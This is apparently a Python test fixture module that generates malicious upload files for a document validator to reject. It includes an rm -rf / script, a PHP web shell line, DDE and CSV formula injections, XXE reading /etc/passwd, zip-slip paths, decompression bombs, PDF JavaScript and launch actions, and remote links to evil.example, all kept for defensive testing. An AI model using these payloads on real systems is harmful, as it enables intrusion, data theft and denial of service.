"""Hostile files, one maker a kind, each with the code that must refuse it."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.trusted_trader.evidence_files.good import (
    RELS,
    W,
    docx_parts,
    odt,
    packed,
    pdf,
    picture,
    pptx_parts,
    relation,
    relations,
    with_parts,
    workbook,
)
from trusted_trader.evidence_files.content import TEST_SIGNATURE

PROGRAM = b"MZ\x90\x00" + bytes(200)
PAGE = b"<html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile kind: its file name, the refusal expected, and how to make it."""

    name: str
    code: str
    make: Callable[[], bytes]


def archive() -> bytes:
    return packed({"run.class": b"\xca\xfe\xba\xbe" * 20})


def evil_pdf(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        document.save(buffer, **options)
    return buffer.getvalue()


def page_in_front() -> bytes:
    comment = b"ReportLab Generated PDF document"
    return pdf().replace(comment, b"<script src=//evil.example>".ljust(len(comment)))


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary({"/S": Name(f"/{kind}"), **{f"/{key}": value for key, value in more.items()}})


def annotated(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        keys = {"/Type": Name.Annot, "/Rect": Array([0, 0, 9, 9])} | {f"/{k}": v for k, v in entries.items()}
        document.pages[0].obj.Annots = Array([document.make_indirect(Dictionary(keys))])

    return change


def at_root(key: str, make: Callable[[pikepdf.Pdf], object]) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[key] = make(document)

    return change


def attached(document: pikepdf.Pdf) -> None:
    document.attachments["tool.exe"] = pikepdf.AttachedFileSpec(document, PROGRAM)


def loose_attachment(document: pikepdf.Pdf) -> None:
    document.Root.Hidden = document.make_indirect(pikepdf.Stream(document, PROGRAM, Type=Name.EmbeddedFile))


def packed_stream(data: bytes, times: int = 1) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        inner = data
        for _round in range(times):
            inner = zlib.compress(inner, 9)
        stream = pikepdf.Stream(document, inner)
        stream.Filter = Array([Name.FlateDecode] * times)
        document.pages[0].obj.Contents = document.make_indirect(stream)

    return change


def many_streams(document: pikepdf.Pdf) -> None:
    for _number in range(6):
        stream = pikepdf.Stream(document, zlib.compress(bytes(25_000_000), 9))
        stream.Filter = Name.FlateDecode
        document.Root[f"/Part{_number}"] = document.make_indirect(stream)


def huge_picture(document: pikepdf.Pdf) -> None:
    image = pikepdf.Stream(document, b"\x00", Subtype=Name.Image, Width=90_000, Height=90_000)
    document.Root.Big = document.make_indirect(image)


def many_small(document: pikepdf.Pdf) -> None:
    document.Root.Parts = Array([document.make_indirect(Dictionary(A=n)) for n in range(101_000)])


def nested(document: pikepdf.Pdf) -> None:
    thing = Array([1])
    for _level in range(200):
        thing = Array([thing])
    document.Root.Deep = thing


def png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, data: bytes, *chunks: bytes) -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = b"".join(chunks) + png_chunk(b"IDAT", zlib.compress(data)) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + body


def broken_png() -> bytes:
    data = bytearray(picture("PNG"))
    data[len(data) // 2] ^= 0xFF
    return bytes(data)


def lying_png() -> bytes:
    """A chunk that states more bytes than the file has."""
    data = bytearray(picture("PNG"))
    position = data.find(b"IDAT")
    data[position - 4 : position] = b"\x7f\xff\xff\xff"
    return bytes(data)


def moving(form: str) -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "green", "blue")]
    frames[0].save(buffer, form, save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def zipped(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED, base: bytes | None = None) -> bytes:
    """Return a DOCX (or another base) with further raw entries, duplicates allowed."""
    buffer = io.BytesIO(base or packed(docx_parts()))
    with zipfile.ZipFile(buffer, "a", method) as document:
        for name, data in entries:
            document.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def encrypted_zip() -> bytes:
    data = bytearray(packed(docx_parts()))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.find(signature)
        data[position + offset] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """Two names in the directory that share one packed body."""
    data = bytearray(zipped(("word/media/a.png", bytes(900)), ("word/media/b.png", bytes(900))))
    first = data.rfind(b"PK\x03\x04", 0, data.rfind(b"PK\x03\x04"))
    position = data.rfind(b"PK\x01\x02") + 42
    data[position : position + 4] = struct.pack("<I", first)
    return bytes(data)


def lying_zip() -> bytes:
    """A part that states ten bytes and unpacks to a million."""
    data = bytearray(zipped(("word/media/image1.png", bytes(1_000_000))))
    position = data.rfind(b"PK\x01\x02")
    data[position + 24 : position + 28] = struct.pack("<I", 10)
    return bytes(data)


def sparse(seed: int) -> bytes:
    """Mostly zeros, with noise enough to stay below the ratio of a bomb."""
    noise = random.Random(seed)
    return b"".join(noise.randbytes(100) + bytes(9_900) for _piece in range(630))


def long_table() -> str:
    """XML that stays below the ratio of a bomb, but is more than can be parsed in time."""
    block = "".join(f"<c>{n * n:016}</c>" for n in range(5_000))  # longer than deflate looks back
    return f"<x>{block * 400}</x>"


def docx(**parts: bytes | str) -> Callable[[], bytes]:
    return lambda: packed(docx_parts(**parts))


def docx_relation(kind: str, target: str) -> Callable[[], bytes]:
    return docx(**{"word/_rels/document.xml.rels": relations(relation(kind, target))})


def docx_body(xml: str) -> Callable[[], bytes]:
    return lambda: packed(docx_parts(f'<w:p xmlns:w="{W}">{xml}</w:p>'))


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
OUTER = f'<!DOCTYPE r SYSTEM "file:///etc/passwd"><Relationships xmlns="{RELS}"/>'
CUT_FIELD = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd calc</w:instrText></w:r>"

NAMES = [
    Hostile("invoice.pdf.exe", "kind_not_allowed", pdf),
    Hostile("picture\u202egpj.exe", "kind_not_allowed", lambda: PROGRAM),
    Hostile("drawing.svg", "kind_not_allowed", lambda: b"<svg><script>alert(1)</script></svg>"),
    Hostile("page.html", "kind_not_allowed", lambda: PAGE),
    Hostile("macro.docm", "kind_not_allowed", lambda: packed(docx_parts())),
    Hostile("no extension", "kind_not_allowed", pdf),
    Hostile("program.pdf", "kind_mismatch", lambda: PROGRAM),
    Hostile("picture.pdf", "kind_mismatch", lambda: picture("PNG")),
    Hostile("rich.txt", "kind_mismatch", lambda: rb"{\rtf1\ansi{\object\objdata 0105}}"),
    Hostile("shell.txt", "kind_mismatch", lambda: b"#!/bin/sh\nrm -rf /\n"),
    Hostile("old.docx", "kind_mismatch", lambda: OLE),
    Hostile("plain archive.docx", "kind_mismatch", lambda: packed({"a.xml": "<a/>"})),
    Hostile("sheet.docx", "kind_mismatch", workbook),
    Hostile("empty.pdf", "empty", lambda: b""),
    Hostile("blank.txt", "empty", lambda: b" \r\n" * 50),
    Hostile("large.txt", "too_large", lambda: b"a" * 25_000_001),
    Hostile("signature.txt", "test_signature", lambda: TEST_SIGNATURE),
    Hostile("signature.jpg", "test_signature", lambda: picture("JPEG", comment=TEST_SIGNATURE)),
    Hostile("signature.docx", "test_signature", docx(**{"word/media/image1.png": TEST_SIGNATURE})),
    Hostile("signature.pdf", "test_signature", lambda: evil_pdf(packed_stream(TEST_SIGNATURE))),
]  # fmt: skip

PDFS = [
    Hostile("archive inside.pdf", "second_format", lambda: pdf() + archive() + b"\n%%EOF"),
    Hostile("late header.pdf", "kind_mismatch", lambda: b"\xff\xfe junk\n" + pdf()),
    Hostile("program behind.pdf", "hidden_data", lambda: pdf() + PROGRAM),
    Hostile("page in front.pdf", "markup", page_in_front),
    Hostile("cut.pdf", "damaged", lambda: pdf()[:900]),
    Hostile("wrong lengths.pdf", "damaged", lambda: pdf().replace(b"startxref\n", b"startxref\n9")),
    Hostile("password.pdf", "encrypted",
        lambda: evil_pdf(lambda _d: None, encryption=pikepdf.Encryption(user="x", owner="y"))),
    Hostile("owner.pdf", "encrypted",
        lambda: evil_pdf(lambda _d: None, encryption=pikepdf.Encryption(user="", owner="y"))),
    Hostile("script at opening.pdf", "active_content",
        lambda: evil_pdf(at_root("/OpenAction", lambda _d: action("JavaScript", JS=String("app.alert(1)"))))),
    Hostile("print at opening.pdf", "active_content",
        lambda: evil_pdf(at_root("/OpenAction", lambda _d: action("Named", N=Name.Print)))),
    Hostile("script by another name.pdf", "active_content",
        lambda: evil_pdf(annotated(Subtype=Name.Link, A=action("XavaScript", Pad=String("12345"))))
            .replace(b"/XavaScript", b"/#4aavaScript").replace(b"(12345)", b"(123)")),
    Hostile("launch.pdf", "active_content",
        lambda: evil_pdf(annotated(Subtype=Name.Link, A=action("Launch", F=String("cmd.exe"))))),
    Hostile("sends form.pdf", "active_content",
        lambda: evil_pdf(annotated(Subtype=Name.Link, A=action("SubmitForm", F=String("http://a.example"))))),
    Hostile("script link.pdf", "active_content", lambda: pdf(link="vbscript:alert(1)")),
    Hostile("share link.pdf", "active_content", lambda: pdf(link="file://server/share")),
    Hostile("media.pdf", "active_content", lambda: evil_pdf(annotated(Subtype=Name.RichMedia))),
    Hostile("dynamic form.pdf", "active_content",
        lambda: evil_pdf(at_root("/AcroForm", lambda _d: Dictionary(XFA=String("<xdp/>"), Fields=Array())))),
    Hostile("attached.pdf", "attachment", lambda: evil_pdf(attached)),
    Hostile("loosely attached.pdf", "attachment", lambda: evil_pdf(loose_attachment)),
    Hostile("bomb.pdf", "expands_too_much", lambda: evil_pdf(packed_stream(bytes(60_000_000)))),
    Hostile("double bomb.pdf", "expands_too_much", lambda: evil_pdf(packed_stream(bytes(60_000_000), 2))),
    Hostile("many bombs.pdf", "expands_too_much", lambda: evil_pdf(many_streams)),
    Hostile("huge picture.pdf", "too_many_pixels", lambda: evil_pdf(huge_picture)),
    Hostile("many objects.pdf", "too_complex",
        lambda: evil_pdf(many_small, object_stream_mode=pikepdf.ObjectStreamMode.disable)),
    Hostile("many packed objects.pdf", "too_complex",
        lambda: evil_pdf(many_small, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    Hostile("deep.pdf", "too_complex", lambda: evil_pdf(nested)),
    Hostile("many pages.pdf", "too_many_pages", lambda: pdf(501)),
]  # fmt: skip

PICTURES = [
    Hostile("archive behind.jpg", "second_format", lambda: picture("JPEG") + archive()),
    Hostile("page behind.jpg", "hidden_data", lambda: picture("JPEG") + b"<b>hello</b>"),
    Hostile("program behind.png", "hidden_data", lambda: picture("PNG") + PROGRAM),
    Hostile("program behind.webp", "hidden_data", lambda: picture("WEBP") + PROGRAM),
    Hostile("page in comment.jpg", "markup", lambda: picture("JPEG", comment=PAGE)),
    Hostile("code in text.png", "markup",
        lambda: png(1, 1, bytes(4), png_chunk(b"tEXt", b"Comment\x00<?php system($_GET[0]); ?>"))),
    Hostile("bomb.png", "too_many_pixels", lambda: png(60_000, 60_000, bytes(1000))),
    Hostile("wide.png", "too_many_pixels", lambda: png(70_000, 1, bytes(210_001))),
    Hostile("large.webp", "too_many_pixels", lambda: picture("WEBP", size=(4000, 3000))),
    Hostile("wrong length.png", "damaged", lying_png),
    Hostile("text bomb.png", "not_read_safely",
        lambda: png(1, 1, bytes(4), png_chunk(b"zTXt", b"k\x00\x00" + zlib.compress(bytes(90_000_000))))),
    Hostile("flipped bit.png", "not_read_safely", broken_png),
    Hostile("cut.jpg", "damaged", lambda: picture("JPEG")[:3000]),
    Hostile("cut.webp", "damaged", lambda: picture("WEBP")[:3000]),
    Hostile("moving.png", "animated", lambda: moving("PNG")),
    Hostile("moving.webp", "animated", lambda: moving("WEBP")),
]  # fmt: skip

PACKAGES = [
    Hostile("macro.docx", "macros", docx(**{"word/vbaProject.bin": b"x"})),
    Hostile("states macros.docx", "macros",
        docx(**{"word/x.xml": "<x/>", "[Content_Types].xml":
            '<Types><O ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'})),
    Hostile("control.xlsx", "macros", lambda: with_parts(workbook(), **{"xl/activeX/activeX1.xml": "<x/>"})),
    Hostile("macro.odt", "macros", lambda: odt(**{"Basic/Standard/Module1.xml": "<x/>"})),
    Hostile("object.docx", "attachment", docx(**{"word/embeddings/oleObject1.bin": OLE})),
    Hostile("hidden object.docx", "attachment", docx(**{"word/media/image1.png": OLE})),
    Hostile("nested archive.xlsx", "attachment", lambda: with_parts(workbook(), **{"xl/media/a.png": archive()})),
    Hostile("program inside.pptx", "attachment", lambda: packed(pptx_parts() | {"ppt/media/a.png": PROGRAM})),
    Hostile("script part.docx", "unsafe_part", docx(**{"word/run.js": "x()"})),
    Hostile("drawn script.docx", "unsafe_part", docx(**{"word/media/a.svg": "<svg><script>x()</script></svg>"})),
    Hostile("remote template.docx", "outside_link", docx_relation("attachedTemplate", "https://evil.example/t.dotm")),
    Hostile("tracking picture.docx", "outside_link", docx_relation("image", "https://evil.example/p.png")),
    Hostile("share link.docx", "outside_link", docx_relation("hyperlink", "file://server/share")),
    Hostile("program link.docx", "outside_link", docx_relation("hyperlink", "ms-msdt:/id")),
    Hostile("tracking picture.odt", "outside_link", lambda: odt('<t:image x:href="https://evil.example/p.png"/>')),
    Hostile("field.docx", "outside_link", docx_body('<w:fldSimple w:instr="DDE cmd calc"/>')),
    Hostile("cut field.docx", "outside_link", docx_body(CUT_FIELD)),
    Hostile("data exchange.xlsx", "outside_link",
        lambda: with_parts(workbook(), **{"xl/externalLinks/externalLink1.xml": "<x><ddeLink/></x>"})),
    Hostile("password.odt", "encrypted", lambda: odt(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"})),
    Hostile("password.docx", "encrypted", encrypted_zip),
    Hostile("laughs.docx", "unsafe_structure", docx(**{"word/x.xml": LAUGHS})),
    Hostile("outside entity.xlsx", "unsafe_structure", lambda: with_parts(workbook(), **{"_rels/.rels": OUTER})),
    Hostile("way up.docx", "unsafe_structure", lambda: zipped(("../../etc/cron.xml", b"<x/>"))),
    Hostile("absolute.docx", "unsafe_structure", lambda: zipped(("/etc/cron.xml", b"<x/>"))),
    Hostile("backslash.docx", "unsafe_structure", lambda: zipped((r"..\..\start.xml", b"<x/>"))),
    Hostile("twice.docx", "unsafe_structure", lambda: zipped(("WORD/Document.xml", b"<x/>"))),
    Hostile("other packing.docx", "unsafe_structure", lambda: zipped(("word/x.xml", b"<x/>"), method=zipfile.ZIP_LZMA)),
    Hostile("overlap.docx", "expands_too_much", overlapping),
    Hostile("bomb.docx", "expands_too_much", lambda: zipped(("word/media/a.bmp", bytes(30_000_000)))),
    Hostile("wide bomb.docx", "expands_too_much",
        lambda: packed(docx_parts() | {f"word/media/{n}.bmp": sparse(n) for n in range(17)})),
    Hostile("many parts.xlsx", "too_complex",
        lambda: with_parts(workbook(), **{f"xl/{n}.xml": "<x/>" for n in range(2100)})),
    Hostile("endless table.xlsx", "too_complex",
        lambda: with_parts(workbook(), **{"xl/worksheets/sheet2.xml": long_table()})),
    Hostile("states less.docx", "damaged", lying_zip),
    Hostile("broken xml.docx", "damaged", docx(**{"word/x.xml": "<x><y></x>"})),
    Hostile("behind.docx", "hidden_data", lambda: packed(docx_parts()) + PROGRAM),
    Hostile("in front.docx", "hidden_data", lambda: b"PK\x03\x04 stub " + packed(docx_parts())),
    Hostile("cut.docx", "damaged", lambda: packed(docx_parts())[:400]),
]  # fmt: skip

TEXTS = [
    Hostile("page.txt", "markup", lambda: b"Dear officer\n" + PAGE),
    Hostile("wide page.txt", "markup", lambda: PAGE.decode().encode("utf-16")),
    Hostile("seven bits.txt", "markup", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    Hostile("archive.csv", "second_format", lambda: b"a,b\n" + archive()),
    Hostile("binary.txt", "not_text", lambda: bytes(range(1, 256))),
    Hostile("zeros.csv", "not_text", lambda: b"a,b\x00c\n"),
    Hostile("exchange.csv", "formulas", lambda: b"name,x\nA,=cmd|' /C calc'!A0\n"),
    Hostile("leak.csv", "formulas", lambda: b'name;x\nA;"=HYPERLINK(""http://evil.example"")"\n'),
    Hostile("plus.csv", "formulas", lambda: b"+cmd|' /C calc'!A0,2\n"),
    Hostile("at.csv", "formulas", lambda: b"a,@SUM(1)\n"),
]  # fmt: skip

HOSTILE = [*NAMES, *PDFS, *PICTURES, *PACKAGES, *TEXTS]
